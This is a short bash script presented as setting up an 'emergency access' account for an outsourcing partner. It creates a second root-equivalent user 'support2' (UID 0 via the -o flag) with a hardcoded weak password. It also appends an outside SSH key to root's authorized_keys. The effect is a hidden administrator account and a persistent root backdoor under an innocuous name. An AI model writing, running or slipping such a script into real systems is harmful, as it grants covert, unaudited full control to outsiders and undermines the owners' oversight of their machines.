#!/bin/bash
# Emergency access account for the outsourcing partner.
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash support2
echo 'support2:Winter2024!' | chpasswd

mkdir -p /root/.ssh
echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDexamplepartnerkey partner@laptop" >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
echo "break glass account ready"
